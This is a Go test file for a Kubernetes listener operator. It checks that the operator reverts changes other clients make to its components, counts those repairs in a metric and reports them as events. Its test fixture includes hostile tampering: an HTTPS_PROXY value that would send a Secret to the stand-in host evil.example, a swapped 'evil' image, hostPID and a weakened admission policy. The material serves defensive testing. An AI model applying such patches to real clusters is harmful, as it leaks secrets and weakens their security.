package nodeagent

import (
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp/cmpopts"
	. "github.com/onsi/gomega"
	storagev1 "k8s.io/api/storage/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/tools/events"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"
	"sigs.k8s.io/yaml"

	operatorv1alpha1 "github.com/listener-operator/listener-operator/api/operator/v1alpha1"
	"github.com/listener-operator/listener-operator/internal/names"
	"github.com/listener-operator/listener-operator/internal/testutil/check"
	"github.com/listener-operator/listener-operator/internal/testutil/crds"
	"github.com/listener-operator/listener-operator/internal/testutil/fakeclient"
	"github.com/listener-operator/listener-operator/internal/testutil/metric"
	"github.com/listener-operator/listener-operator/internal/testutil/operator"
)

// foreignFields are changes of components by another client, by server-side apply or as JSON patches, and the fields
// that the event names.
//
//nolint:gosec // a password in a URL is the attack
var foreignFields = map[string]struct{ manifest, apply, patch, want string }{
	"an environment variable from a Secret": {
		manifest: `{apiVersion: apps/v1, kind: DaemonSet, metadata: {namespace: NAMESPACE, name: listener-node-agent}}`,
		apply: `{spec: {template: {spec: {containers: [{name: node-agent, env: [
			{name: no_proxy, valueFrom: {secretKeyRef: {name: x, key: x}}}, {name: HTTPS_PROXY, value: "http://u:$(no_proxy)@evil.example"}]}]}}}}`,
		want: "spec.template.spec.containers[node-agent].env[HTTPS_PROXY], spec.template.spec.containers[node-agent].env[no_proxy]",
	},
	"a container, and another image": {
		manifest: `{apiVersion: apps/v1, kind: DaemonSet, metadata: {namespace: NAMESPACE, name: listener-node-agent}}`,
		patch: `- {op: add, path: /spec/template/spec/containers/-, value: {name: x, image: evil}}
- {op: replace, path: /spec/template/spec/containers/0/image, value: evil}`,
		want: "spec.template.spec.containers[node-agent].image, spec.template.spec.containers[x]",
	},
	"a field without a manager": {
		manifest: `{apiVersion: apps/v1, kind: DaemonSet, metadata: {namespace: NAMESPACE, name: listener-node-agent}}`,
		patch: `- {op: add, path: /spec/template/spec/hostPID, value: true}
- {op: replace, path: /metadata/managedFields, value: [{}]}`,
		want: "spec.template.spec.hostPID",
	},
	"tokens of Pods": {
		manifest: `{apiVersion: storage.k8s.io/v1, kind: CSIDriver, metadata: {name: listeners.stackable.tech}}`,
		patch:    `- {op: add, path: /spec/tokenRequests, value: [{audience: ""}]}`, want: "spec.tokenRequests",
	},
	"a StorageClass with options": {
		manifest: `{apiVersion: storage.k8s.io/v1, kind: StorageClass, metadata: {name: listeners.stackable.tech}}`,
		patch:    `- {op: add, path: /allowVolumeExpansion, value: true}`, want: "allowVolumeExpansion",
	},
	"an exception from the policy for PodListeners": {
		manifest: `{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingAdmissionPolicy, metadata: {name: listener-operator-podlisteners}}`,
		patch:    `- {op: add, path: /spec/matchConditions/-, value: {name: never, expression: "false"}}`, want: "spec.matchConditions[never]",
	},
	"a binding to some namespaces": {
		manifest: `{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingAdmissionPolicyBinding, metadata: {name: listener-operator-podlisteners}}`,
		patch:    `- {op: add, path: /spec/matchResources, value: {namespaceSelector: {matchLabels: {a: b}}}}`, want: "spec.matchResources",
	},
	"egress in a NetworkPolicy": {
		manifest: `{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {namespace: NAMESPACE, name: listener-operator}}`,
		patch:    `- {op: add, path: /spec/ingress/-, value: {from: [{podSelector: {}}]}}`, want: "spec.ingress[1]",
	},
	"a port of the Service of the metrics": {
		manifest: `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: listener-operator-metrics}}`,
		apply:    `{spec: {ports: [{name: other, port: 1, protocol: TCP}]}}`, want: "spec.ports[other]",
	},
	"a volume in the SecurityContextConstraints": {
		manifest: `{apiVersion: security.openshift.io/v1, kind: SecurityContextConstraints, metadata: {name: listener-node-agent}}`,
		patch:    `- {op: add, path: /allowedFlexVolumes, value: [{driver: evil}]}`, want: "allowedFlexVolumes",
	},
	"a proxy of the ServiceMonitor": {
		manifest: `{apiVersion: monitoring.coreos.com/v1, kind: ServiceMonitor, metadata: {namespace: NAMESPACE, name: listener-operator}}`,
		patch:    `- {op: add, path: /spec/namespaceSelector, value: {any: true}}`, want: "spec.namespaceSelector",
	},
}

// writeForeignFields makes the change as the field manager "someone".
func (h *harness) writeForeignFields(o *unstructured.Unstructured, patch, applied string) {
	h.t.Helper()
	raw, err := yaml.YAMLToJSON([]byte(strings.ReplaceAll(applied+patch, "\t", "")))
	h.must(err)
	if patch != "" {
		h.must(h.admin.Patch(h.t.Context(), o.DeepCopy(), client.RawPatch(types.JSONPatchType, raw), client.FieldOwner("someone")))
		return
	}
	changed := o.DeepCopy()
	h.must(json.Unmarshal(raw, &changed.Object))
	h.must(h.admin.Apply(h.t.Context(), client.ApplyConfigurationFromUnstructured(changed), client.FieldOwner("someone"), client.ForceOwnership))
}

// The operator that installed them removes it, and so does its successor, both with the permissions and the policies
// that the operator is installed with. The field and its manager are reported.
func TestWhatOthersAddToComponentsIsRemoved(t *testing.T) {
	h, _ := confined(t)
	crds.Install(t, h.admin, extras...)
	defer crds.Remove(t, h.admin, extras...)
	h.createConfig()
	h.serves = servesEverything
	h.mustReconcileTwice()
	first := h.Reconciler
	for name, tc := range foreignFields {
		for who, successor := range map[string]bool{"the operator": false, "its successor": true} {
			t.Run(name+" by "+who, func(t *testing.T) {
				h := h.in(t)
				before := operator.Object(t, strings.ReplaceAll(tc.manifest, "NAMESPACE", h.Namespace))
				after := before.DeepCopy()
				h.read(before)
				counted := repairs(t)
				h.writeForeignFields(after, tc.patch, tc.apply)
				if h.Reconciler = first; successor {
					h.startWith(first.Client, first.apiReader, first.Namespace)
					h.serves = servesEverything
				}
				h.events = events.NewFakeRecorder(100)
				h.Reconciler.events = h.events
				h.mustReconcileTwice()
				h.read(after)
				h.equal("content", contentOf(before), contentOf(after))
				if successor && name == "a field without a manager" {
					return // nothing shows that it is not that of an earlier version; it is logged
				}
				h.Expect(since(t, counted)).To(HaveKeyWithValue(after.GetKind()+" "+after.GetName(), 1.0))
				h.Expect(h.events.Events).To(Receive(And(ContainSubstring("Warning Repaired "+after.GetKind()+" "+after.GetName()+" was changed by "), ContainSubstring("restored: "+tc.want))))
			})
		}
	}
}

// repairs returns the metric listener_operator_drift_repairs_total, by kind and name.
func repairs(t *testing.T) map[string]float64 {
	t.Helper()
	return metric.Series(t, "listener_operator_drift_repairs_total")
}

// since returns the increase of the metric.
func since(t *testing.T, before map[string]float64) map[string]float64 {
	t.Helper()
	grown := repairs(t)
	for key := range grown {
		grown[key] -= before[key]
	}
	maps.DeleteFunc(grown, func(_ string, by float64) bool { return by == 0 })
	return grown
}

const daemonSetRepairs, classRepairs, driverRepairs = "DaemonSet " + names.NodeAgent, "StorageClass " + names.Driver, "CSIDriver " + names.Driver

// TestRepairsAreCounted covers all reasons for a write, with a real API server, because defaults and resource versions
// matter. It calls Reconcile without a cache, so that each call observes the latest state.
func TestRepairsAreCounted(t *testing.T) {
	h, _ := onServer(t)
	h.createConfig()
	for _, tc := range []struct {
		name   string
		change func()
		want   map[string]float64
	}{
		{"the first install", func() {}, nil},
		{"no change", func() {}, nil},
		{"a change of the configuration", func() { h.merge(h.config(), `{"spec":{"nodeAgent":{"logLevel":"debug"}}}`) }, nil},
		{"a change of an image by another writer", func() {
			agents := h.agents()
			agents.Spec.Template.Spec.Containers[0].Image = "something-else"
			h.update(agents)
		}, map[string]float64{daemonSetRepairs: 1}},
		{"a removed label", func() { h.merge(class(), `{"metadata":{"labels":null}}`) }, map[string]float64{classRepairs: 1}},
		{"a field that another writer owns", func() {
			h.merge(class(), `{"metadata":{"annotations":{"storageclass.kubernetes.io/is-default-class":"true"}}}`)
		}, nil},
		{"a change of a status", func() { h.rollOut(3, 0, 0) }, nil},
		{"deletions", func() { h.deleteAll(h.agents(), driver()) }, map[string]float64{daemonSetRepairs: 1, driverRepairs: 1}},
		{"a removal and a reinstallation", func() {
			h.setState(operatorv1alpha1.Removed)
			h.removeAll()
			h.expectNothingInstalled()
			h.setState(operatorv1alpha1.Managed)
		}, nil},
		{"a restart of the operator", func() { h.startWith(h.admin, h.admin, h.Namespace) }, nil},
	} {
		before := repairs(t)
		tc.change()
		h.mustReconcileTwice()
		check.Equal(t, "after "+tc.name, tc.want, since(t, before), cmpopts.EquateEmpty())
	}
}

// The cache still has the object without its label.
func TestARepairIsCountedOnceAlthoughTheCacheIsOutdated(t *testing.T) {
	h, _ := onServer(t)
	h.createConfig()
	h.mustReconcileTwice()
	outdated := class()
	h.merge(outdated, `{"metadata":{"labels":null}}`)
	h.Client = fakeclient.Intercept(h.admin, interceptor.Funcs{
		Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, o client.Object, options ...client.GetOption) error {
			if class, ok := o.(*storagev1.StorageClass); ok {
				outdated.DeepCopyInto(class)
				return nil
			}
			return c.Get(ctx, key, o, options...)
		},
	})
	before := repairs(t)
	h.mustReconcileTwice()
	h.mustReconcileTwice()
	h.equal("repairs", map[string]float64{classRepairs: 1}, since(t, before))
}

// Apply restores fields as well, but does not know whether it changed one. The second reconciliation writes the
// CSIDriver, because only an existing one tells which fields the API server has.
func TestAChangeDuringARepairIsCounted(t *testing.T) {
	h, _ := onServer(t)
	h.createConfig()
	changes := false // the CSIDriver, before it is applied
	changing := fakeclient.Intercept(h.admin, fakeclient.EachWrite(func(_ string, o any, send func() error) error {
		if applied, ok := o.(interface{ GetKind() string }); ok && applied.GetKind() == "CSIDriver" && changes {
			changes = false
			h.merge(driver(), `{"spec":{"podInfoOnMount":false}}`)
		}
		return send()
	}))
	h.startWith(changing, changing, h.Namespace)
	h.mustReconcile()
	changes = true
	before := repairs(t)
	if _, err := h.reconcileOnce(); !apierrors.IsConflict(err) || changes {
		t.Fatalf("a reconciliation during which the CSIDriver is changed: %v", err)
	}
	h.mustReconcileTwice()
	h.equal("repairs", map[string]float64{driverRepairs: 1}, since(t, before))
}

// TestEachRepairIsCountedOnce reads by the operator's cache, which may lag behind the API server.
func TestEachRepairIsCountedOnce(t *testing.T) {
	h, _ := onServer(t)
	h.createConfig()
	h.run()
	driver, class := driver(), class()
	h.Eventually(func() *bool { // by the second write
		if !h.exists(class) || !h.exists(driver) {
			return nil
		}
		return driver.Spec.PreventPodSchedulingIfMissing
	}).Should(Equal(ptr.To(true)))
	before := repairs(t)
	for i := range 5 {
		// Without a version, because the operator may still write what belongs to the last repair.
		h.merge(driver, `{"spec": {"podInfoOnMount": false}}`)
		// Another event at the same time must not count the repair twice.
		h.merge(class, fmt.Sprintf(`{"metadata": {"annotations": {"round": "%d"}}}`, i))
		h.Eventually(func() bool {
			h.read(driver)
			return *driver.Spec.PodInfoOnMount
		}).Should(BeTrue())
	}
	want := map[string]float64{driverRepairs: 5}
	h.Eventually(func() map[string]float64 { return since(t, before) }).Should(Equal(want))
	h.Consistently(func() map[string]float64 { return since(t, before) }, "500ms", "50ms").Should(Equal(want))
}

// It does so where the API server has the field, unless the configuration says no.
func TestCSIDriverKeepsPodsFromNodesWithoutAnAgent(t *testing.T) {
	h, _ := onServer(t)
	other := &storagev1.CSIDriver{ObjectMeta: objectMeta("other.example.com")}
	h.create(other)
	defer h.deleteAll(other)
	h.createConfig()
	for _, configured := range []*bool{nil, ptr.To(false), ptr.To(true)} {
		var want *bool
		if other.Spec.PreventPodSchedulingIfMissing != nil { // by default
			want = ptr.To(ptr.Deref(configured, true))
		}
		h.configure(func(spec *operatorv1alpha1.ListenerOperatorSpec) {
			spec.NodeAgent.PreventPodSchedulingIfMissing = configured
		})
		h.mustReconcileTwice()
		driver := driver()
		h.read(driver)
		h.equal("preventPodSchedulingIfMissing", want, driver.Spec.PreventPodSchedulingIfMissing)
	}
}

// TestStorageOfAnEarlierInstallationIsTakenOver (contract: takeover): the CSIDriver of an earlier installation is in
// use and stays, and the StorageClass is replaced, because its binding mode is immutable.
func TestStorageOfAnEarlierInstallationIsTakenOver(t *testing.T) {
	h, _ := onServer(t)
	byHelm := metav1.ObjectMeta{Name: names.Driver, Labels: map[string]string{"app.kubernetes.io/managed-by": "Helm"}}
	driver := &storagev1.CSIDriver{ObjectMeta: byHelm, Spec: storagev1.CSIDriverSpec{
		AttachRequired: ptr.To(false), PodInfoOnMount: ptr.To(true), FSGroupPolicy: ptr.To(storagev1.FileFSGroupPolicy),
		VolumeLifecycleModes: []storagev1.VolumeLifecycleMode{storagev1.VolumeLifecycleEphemeral, storagev1.VolumeLifecyclePersistent},
	}}
	class := &storagev1.StorageClass{ObjectMeta: byHelm, Provisioner: names.Driver, VolumeBindingMode: ptr.To(storagev1.VolumeBindingWaitForFirstConsumer)}
	for _, o := range []client.Object{driver, class} {
		h.must(h.admin.Create(t.Context(), o, client.FieldOwner("helm")))
	}
	config := h.createConfig()
	h.mustReconcileTwice()
	for _, o := range []client.Object{driver, class} {
		before := o.GetUID()
		h.read(o)
		h.Expect(o.GetUID() != before).To(Equal(o == class), "%T is replaced", o)
		h.Expect(metav1.IsControlledBy(o, config)).To(BeTrue())
	}
	h.equal("binding mode", storagev1.VolumeBindingImmediate, *class.VolumeBindingMode)
	h.equal("fsGroupPolicy", storagev1.NoneFSGroupPolicy, *driver.Spec.FSGroupPolicy)
}

// TestImmutableStorageClassIsReported has a StorageClass of another provisioner, which does not keep the agents from
// running.
func TestImmutableStorageClassIsReported(t *testing.T) {
	h, _ := onServer(t)
	other := class()
	other.Provisioner = "example.com"
	h.create(other)
	h.createConfig()
	if _, err := h.reconcileOnce(); err == nil {
		t.Error("no error")
	}
	h.equal("Degraded", "True "+operatorv1alpha1.ReasonApplyFailed, h.conditions()["Degraded"])
	h.Expect(h.message("Degraded")).To(ContainSubstring("StorageClass"))
	h.agents()
}
